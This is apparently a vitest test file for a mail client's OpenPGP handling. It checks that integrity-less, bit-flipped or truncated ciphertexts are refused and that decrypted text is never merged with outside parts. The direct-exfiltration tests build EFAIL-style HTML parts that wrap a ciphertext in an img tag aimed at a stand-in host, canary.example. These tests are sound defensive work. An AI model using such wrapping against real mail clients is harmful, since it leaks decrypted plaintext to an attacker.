/** EFAIL (CVE-2017-17688, CVE-2017-17689): no plaintext without integrity, and what is decrypted is never joined with what stands outside. */
import {
  createMessage,
  encrypt,
  enums,
  readKey,
  readMessage,
  SymmetricallyEncryptedDataPacket,
  type Message,
} from 'openpgp'
import { beforeAll, describe, expect, it } from 'vitest'
import { findBlocks, readArmour } from '../../electron/core/pgp/armour.ts'
import { pgpConfig } from '../../electron/core/pgp/config.ts'
import {
  encrypted,
  mail,
  multipart,
  must,
  openHere,
  person,
  pgpMime,
  pgpMimeParts,
  textPart,
  type Person,
  onlyBytes,
} from '../material/pgp-people.ts'

const SECRET = 'the secret words'
let alice: Person
let bob: Person
let armour: string

beforeAll(async () => {
  ;[alice, bob] = await Promise.all([person('Alice'), person('Bob')])
  armour = await encrypted(textPart(SECRET), [bob], null)
})

const unarmoured = (): Uint8Array => {
  const [block] = findBlocks(armour)
  return Uint8Array.from(readArmour(block?.inner ?? '').data)
}

const parse = (): Promise<Message<Uint8Array>> => readMessage({ binaryMessage: unarmoured() })

describe('OpenPGP.js is configured to refuse', () => {
  it('what has no integrity and what breaks the grammar', () => {
    expect(pgpConfig()).toMatchObject({
      allowUnauthenticatedMessages: false,
      allowUnauthenticatedStream: false,
      enforceGrammar: true,
    })
    expect(pgpConfig().maxDecompressedMessageSize).toBeLessThan(Infinity)
  })
})

describe('a changed ciphertext', () => {
  it.each([1, 20, 21, 40])('bit flipped %i bytes before its end shows nothing', async (distance) => {
    const bytes = unarmoured()
    bytes[bytes.length - distance] = (bytes[bytes.length - distance] ?? 0) ^ 1
    expect(await openHere(bytes, { own: [bob] })).toEqual({
      ok: false,
      problem: { code: 'message-tampered', params: {} },
    })
  })

  it('cut short shows nothing', async () => {
    const bytes = unarmoured()
    expect(bytes.length).toBeGreaterThan(100)
    for (const length of [bytes.length - 1, bytes.length - 22, bytes.length - 60]) {
      const result = await openHere(bytes.slice(0, length), { own: [bob] })
      expect(result).toMatchObject({ ok: false })
      expect(JSON.stringify(result)).not.toContain('secret')
    }
  })

  it('turned into a packet without integrity is refused before a key is used', async () => {
    const message = await parse()
    const protectedData = message.packets.findPacket(enums.packet.symEncryptedIntegrityProtectedData)
    const stripped = new SymmetricallyEncryptedDataPacket()
    // Body of tag 18 without its version octet: the old packet's form.
    stripped.read(toBody(protectedData?.write() ?? new Uint8Array()))
    message.packets.splice(message.packets.length - 1, 1, stripped)
    const result = await openHere(message.packets.write(), { own: [bob] })
    expect(result).toEqual({ ok: false, problem: { code: 'message-no-integrity', params: {} } })
  })

  it('made without integrity from the start is refused', async () => {
    const key = await readKey({ armoredKey: bob.armoredPublic })
    const message = await createMessage({ text: SECRET })
    const made = await readMessage({
      binaryMessage: onlyBytes(await encrypt({ message, encryptionKeys: key, format: 'binary' })),
    })
    const old = new SymmetricallyEncryptedDataPacket()
    old.read(new Uint8Array(80))
    made.packets.splice(made.packets.length - 1, 1, old)
    expect(await openHere(made.packets.write(), { own: [bob] })).toMatchObject({
      problem: { code: 'message-no-integrity' },
    })
  })
})

const toBody = (written: unknown): Uint8Array =>
  written instanceof Uint8Array ? written.subarray(1) : new Uint8Array()

describe('direct exfiltration: an image tag that is opened before and closed after the ciphertext', () => {
  const before = 'Content-Type: text/html\n\n<img src="http://canary.example/'
  const after = 'Content-Type: text/html\n\n">'

  it.each([
    [
      'a PGP/MIME mail between HTML parts',
      (text: string) => multipart('multipart/mixed', [before, pgpMime(text), after], 'outer'),
    ],
    [
      'the parts of a PGP/MIME mail themselves',
      (text: string) => multipart('multipart/mixed', [before, ...pgpMimeParts(text), after], 'outer'),
    ],
    [
      'three parts in multipart/encrypted',
      (text: string) => multipart('multipart/encrypted', [before, ...pgpMimeParts(text), after], 'outer'),
    ],
    [
      'an inline block between HTML parts',
      (text: string) => multipart('multipart/mixed', [before, textPart(text), after], 'outer'),
    ],
  ])('%s', async (_, wrap) => {
    const message = must(await openHere(mail('eve@example.org', wrap(armour)), { own: [bob], fileName: 'm.eml' }))
    expect(message.text).toContain(SECRET)
    expect(message.text).not.toContain('canary')
    expect(message.html ?? '').not.toMatch(/canary|secret/)
    expect(message.outside).not.toContain(SECRET)
    expect(message.protection).toMatchObject({ encrypted: true, signature: 'none' })
    expect(message.findings.map(({ code }) => code)).toContain('text-outside')
  })
})

it("what another message of ours holds is never shown with an attacker's signed text as one", async () => {
  const signed = await encrypted(textPart('agree?'), [bob], alice)
  const raw = mail('alice@example.org', multipart('multipart/mixed', [pgpMime(signed), pgpMime(armour)], 'outer'))
  const message = must(await openHere(raw, { own: [bob], known: [alice] }))
  expect(message).toMatchObject({ text: 'agree?', protection: { signature: 'partial' } })
  expect(message.outside).toContain(SECRET)
})
